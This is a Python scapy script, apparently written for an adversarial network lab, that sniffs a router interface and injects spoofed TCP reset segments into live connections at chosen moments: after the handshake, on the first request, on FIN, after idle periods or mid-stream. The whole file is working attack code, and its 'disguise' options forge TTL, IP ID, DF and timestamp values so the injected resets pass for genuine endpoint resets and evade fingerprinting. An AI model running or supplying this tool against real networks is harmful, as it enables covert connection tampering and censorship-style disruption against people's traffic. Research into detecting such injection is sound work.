#!/usr/bin/python3
"""Router-side forger for the adversarial lab (scapy), with disguises.

It sniffs one router interface (packet socket, bounded by --timeout) and sends forged
segments through the router kernel (raw IP socket with IP_HDRINCL, so the IP header is
exactly the one built here; Linux only fills in an IP ID of 0, so 0 is never used).

Modes (--port = the server's port):
  aqo       on the client's third handshake ACK (pure ACK after the SYN/ACK): a bare RST
            to the client with the server's address, seq = that ACK's ack, window 0, no
            options: shaped like the server kernel's accept-queue-overflow reset; with
            --both also RST+ACK to the server (client's address) so the server stays silent
  request   on the client's first payload segment: RST+ACK to the client (server's address,
            seq = the server's next, ack = the client's next) and, with --both, to the
            server (client's address, seq = the client's next after the request)
  ack       like request, but on the server's pure ACK of the client's first payload (so the
            server has sent a packet with its own IP ID and timestamp since the SYN/ACK)
  fin       right after the server's FIN: RST+ACK to both ends
  idle      when the connection has been silent --idle s (after data both ways): RST+ACK
            to both ends
  zeek      on the client's SYN (the router drops SYNs to --port in its forward hook):
            RST+ACK to the client, seq 0, ack = the SYN's seq (not +1), IP ID copied from
            the SYN, then re-sends the SYN itself to the server (TTL - 1) 20 ms later
  wrongseq  during a server -> client stream: after --after data segments a RST to the
            client 10^7 bytes past the server's next sequence number (out of window), and
            after --after2 segments one 2000 bytes past it (in window, not exact)

Disguises:
  --ttl N        the forged TTL (default 64: the router's own packets have 64 everywhere,
                 genuine endpoint packets have 63 once past the router; 63 mimics them)
  --ipid M       random | one (scapy's default, 1) | next (the spoofed endpoint's last
                 IP ID + 1) | peer (the IP ID of the receiver's segment it answers) | zero
                 (what Linux puts on RSTs sent without a socket; needs DF)
  --ipid-server M  the same for the RSTs sent to the server (default: --ipid)
  --df / --no-df the DF bit (Linux endpoints set it)
  --copy-opts    RST+ACK with the spoofed endpoint's window and a timestamp option
                 (its last TSval + elapsed ms, TSecr = the receiver's last TSval)
"""
import argparse
import json
import random
import subprocess
import sys
import threading
import time

from scapy.all import IP, TCP, AsyncSniffer  # noqa: E402
from scapy.supersocket import L3RawSocket  # noqa: E402

T0 = time.time()


def log(**kw):
    kw["t"] = round(time.time() - T0, 4)
    print(json.dumps(kw), flush=True)


def seglen(t):
    return len(bytes(t.payload)) + (1 if t.flags & 0x02 else 0) + (1 if t.flags & 0x01 else 0)


def tsval(t):
    for k, v in t.options:
        if k == "Timestamp":
            return v
    return None


class Side:
    def __init__(self):
        self.addr = self.port = None
        self.nxt = self.ack = None
        self.ipid = self.win = None
        self.ts = None            # (tsval, tsecr, time seen)
        self.data_segs = 0
        self.data = 0


class Conn:
    def __init__(self, port):
        self.port = port
        self.c, self.s = Side(), Side()
        self.last = time.time()
        self.fin = False
        self.lock = threading.Lock()

    def update(self, p):
        ip, t = p[IP], p[TCP]
        if t.flags & 0x04:
            return None
        side = self.c if t.dport == self.port else self.s
        with self.lock:
            self.last = time.time()
            side.addr, side.port = ip.src, t.sport
            side.nxt = (t.seq + seglen(t)) % 2**32
            if t.flags & 0x10:
                side.ack = t.ack
            side.ipid, side.win = ip.id, t.window
            tv = tsval(t)
            if tv:
                side.ts = (tv[0], tv[1], time.time())
            n = len(bytes(t.payload))
            if n:
                side.data_segs += 1
                side.data += n
            if t.flags & 0x01:
                self.fin = True
        return side


class Forger:
    def __init__(self, a):
        self.a = a
        self.sock = L3RawSocket()

    def send(self, conn, spoof, recv, flags, seq, ack=0, answer_id=None, extra_ip=None):
        a = self.a
        mode = a.ipid_server if (a.ipid_server and recv is not None and recv is conn.s) else a.ipid
        if mode == "zero":
            ipid = 0      # kept as 0 by the kernel only with DF set (ip_select_ident_segs)
        elif mode == "next":
            ipid = (spoof.ipid + 1) % 65536 if spoof.ipid is not None else random.randint(1, 65535)
        elif mode == "peer":
            ipid = answer_id if answer_id is not None else recv.ipid
        elif mode == "one":
            ipid = 1
        else:
            ipid = random.randint(1, 65535)
        if mode != "zero":
            ipid = ipid or 1
        ipkw = dict(src=spoof.addr, dst=recv.addr, ttl=a.ttl, id=ipid, flags="DF" if a.df else 0)
        if extra_ip:
            ipkw.update(extra_ip)
        tcpkw = dict(sport=spoof.port, dport=recv.port, flags=flags, seq=seq % 2**32, ack=ack % 2**32, window=0)
        if a.copy_opts and "A" in flags:
            tcpkw["window"] = spoof.win or 0
            if spoof.ts and recv.ts:
                ms = int((time.time() - spoof.ts[2]) * 1000)
                tcpkw["options"] = [("NOP", None), ("NOP", None),
                                    ("Timestamp", ((spoof.ts[0] + ms) % 2**32, recv.ts[0]))]
        pkt = IP(**ipkw) / TCP(**tcpkw)
        self.sock.send(pkt)
        log(ev="forged", src=spoof.addr, dst=recv.addr, sport=spoof.port, dport=recv.port, flags=flags,
            seq=seq % 2**32, ack=ack % 2**32, ttl=a.ttl, ipid=ipid, df=a.df, window=tcpkw["window"],
            opts=bool(tcpkw.get("options")))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["aqo", "request", "ack", "fin", "idle", "zeek", "wrongseq"])
    ap.add_argument("--iface", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--ready", default="")
    ap.add_argument("--timeout", type=float, default=15)
    ap.add_argument("--idle", type=float, default=6)
    ap.add_argument("--ttl", type=int, default=64)
    ap.add_argument("--ipid", choices=["random", "one", "next", "peer", "zero"], default="random")
    ap.add_argument("--ipid-server", choices=["random", "one", "next", "peer", "zero"], default="",
                    help="IP ID mode of the RSTs sent to the server (default: --ipid)")
    ap.add_argument("--df", dest="df", action="store_true", default=True)
    ap.add_argument("--no-df", dest="df", action="store_false")
    ap.add_argument("--copy-opts", action="store_true")
    ap.add_argument("--both", action="store_true")
    ap.add_argument("--after", type=int, default=5)
    ap.add_argument("--after2", type=int, default=10)
    ap.add_argument("--count", type=int, default=1, help="aqo/zeek: how many connections to hit")
    a = ap.parse_args()
    f = Forger(a)
    conns = {}
    done = threading.Event()
    hits = [0]
    wrong_step = [0]

    def conn_of(t):
        cport = t.sport if t.dport == a.port else t.dport
        return conns.setdefault(cport, Conn(a.port))

    def on_pkt(p):
        if IP not in p or TCP not in p or done.is_set():
            return
        ip, t = p[IP], p[TCP]
        if t.flags & 0x04:
            return
        from_client = t.dport == a.port
        if a.mode == "zeek":
            if from_client and (t.flags & 0x12) == 0x02:
                cn = conn_of(t)
                cn.update(p)
                f.send(cn, Side_of(ip.dst, t.dport), cn.c, "RA", 0, t.seq, answer_id=ip.id)
                time.sleep(0.02)
                syn = IP(bytes(ip))
                syn.ttl -= 1
                del syn.chksum
                f.sock.send(syn)
                log(ev="syn-reinjected", seq=t.seq, ipid=ip.id, ttl=syn.ttl)
                hits[0] += 1
                if hits[0] >= a.count:
                    done.set()
            return
        cn = conn_of(t)
        prev_c_data = cn.c.data_segs
        side = cn.update(p)
        if side is None:
            return
        if a.mode == "aqo":
            if from_client and t.flags == "A" and len(bytes(t.payload)) == 0 and prev_c_data == 0 \
                    and cn.s.nxt is not None and not getattr(cn, "hit", False):
                cn.hit = True
                f.send(cn, cn.s, cn.c, "R", t.ack, 0, answer_id=ip.id)
                if a.both:
                    f.send(cn, cn.c, cn.s, "RA", cn.c.nxt, cn.s.nxt)
                hits[0] += 1
                if hits[0] >= a.count:
                    done.set()
        elif a.mode == "request":
            if from_client and len(bytes(t.payload)) > 0 and cn.c.data_segs == 1:
                f.send(cn, cn.s, cn.c, "RA", t.ack, cn.c.nxt, answer_id=ip.id)
                if a.both:
                    f.send(cn, cn.c, cn.s, "RA", cn.c.nxt, t.ack)
                done.set()
        elif a.mode == "ack":
            if not from_client and len(bytes(t.payload)) == 0 and t.flags == "A" and cn.c.data_segs >= 1 \
                    and t.ack == cn.c.nxt:
                f.send(cn, cn.s, cn.c, "RA", cn.s.nxt, cn.c.nxt)
                if a.both:
                    f.send(cn, cn.c, cn.s, "RA", cn.c.nxt, cn.s.nxt, answer_id=ip.id)
                done.set()
        elif a.mode == "fin":
            if not from_client and t.flags & 0x01:
                f.send(cn, cn.s, cn.c, "RA", cn.s.nxt, cn.c.nxt)
                f.send(cn, cn.c, cn.s, "RA", cn.c.nxt, cn.s.nxt, answer_id=ip.id)
                done.set()
        elif a.mode == "wrongseq":
            if not from_client and len(bytes(t.payload)) > 0:
                if wrong_step[0] == 0 and cn.s.data_segs >= a.after:
                    wrong_step[0] = 1
                    f.send(cn, cn.s, cn.c, "R", cn.s.nxt + 10_000_000, 0)
                elif wrong_step[0] == 1 and cn.s.data_segs >= a.after2:
                    wrong_step[0] = 2
                    f.send(cn, cn.s, cn.c, "R", cn.s.nxt + 2000, 0)
                    done.set()

    class Side_of(Side):
        def __init__(self, addr, port):
            super().__init__()
            self.addr, self.port = addr, port

    started = threading.Event()
    sn = AsyncSniffer(iface=a.iface, filter=f"tcp port {a.port}", prn=on_pkt, store=False,
                      started_callback=lambda: started.set(), timeout=a.timeout)
    sn.start()
    started.wait(10)
    time.sleep(0.3)
    log(ev="sniffing", iface=a.iface, mode=a.mode)
    if a.ready:
        with open(a.ready, "w") as fh:
            fh.write("ready\n")
    deadline = time.time() + a.timeout
    if a.mode == "idle":
        while time.time() < deadline and not done.is_set():
            time.sleep(0.1)
            for cn in list(conns.values()):
                with cn.lock:
                    ready = cn.c.data and cn.s.data and not cn.fin
                    quiet = time.time() - cn.last
                if ready and quiet >= a.idle:
                    log(ev="idle", seconds=round(quiet, 2))
                    f.send(cn, cn.s, cn.c, "RA", cn.s.nxt, cn.c.nxt)
                    f.send(cn, cn.c, cn.s, "RA", cn.c.nxt, cn.s.nxt)
                    done.set()
                    break
    else:
        done.wait(max(0.1, deadline - time.time()))
    log(ev="done" if done.is_set() else "timeout")
    time.sleep(0.3)
    if sn.running:
        sn.stop()
    return 0 if done.is_set() else 2


if __name__ == "__main__":
    sys.exit(main())
